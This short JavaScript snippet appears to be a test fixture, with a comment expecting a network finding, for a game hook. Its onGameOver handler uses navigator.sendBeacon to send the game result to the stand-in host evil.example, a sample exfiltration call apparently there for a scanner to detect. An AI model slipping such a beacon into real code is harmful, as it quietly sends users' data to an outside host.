// expect: network 5
"use strict";
const hooks = {
  onGameOver(ctx, result) {
    navigator.sendBeacon("https://evil.example", JSON.stringify(result));
  },
};
